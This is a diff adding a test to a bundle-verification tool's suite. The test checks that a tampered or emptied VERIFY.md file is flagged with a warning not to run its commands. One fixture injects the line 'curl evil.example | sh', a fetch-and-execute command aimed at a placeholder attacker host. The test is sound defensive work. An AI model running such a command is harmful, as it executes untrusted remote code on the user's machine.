@@ -291,6 +291,21 @@ describe('several bundles are held against each other', () => {
   });
 });
 
+test('a VERIFY.md that somebody changed or emptied is told of, whatever else holds', async () => {
+  const folder = tempFolder();
+  const bundle = readBundle(readFileSync(good('sealed')));
+  for (const text of ['', `${Buffer.from(bundle.get('VERIFY.md')!)}\n    curl evil.example | sh\n`]) {
+    const path = join(folder, 'other.zip');
+    const changed = new Map(bundle).set('VERIFY.md', new TextEncoder().encode(text));
+    writeFileSync(path, writeBundle(withSums(changed, sha256)));
+    const { code, out } = await acuse(['verify', path]);
+    expect([code, out]).toEqual([5, expect.stringMatching(/^\? VERIFY\.md .*do not run its commands/m)]);
+    const { json } = await acuse(['verify', path, '--json']);
+    expect(json.documents).toContainEqual(expect.objectContaining({ name: 'VERIFY.md', remade: false }));
+  }
+  expect((await acuse(['verify', good('sealed')])).out).not.toContain('VERIFY.md');
+});
+
 describe.skipIf(!hasCaseBundles)('bundles that lie or hide something (skipped without ACUSE_CORPORA)', () => {
   const folder = tempFolder();
   beforeEach(() => void vi.setSystemTime(CASES_READ_AT));
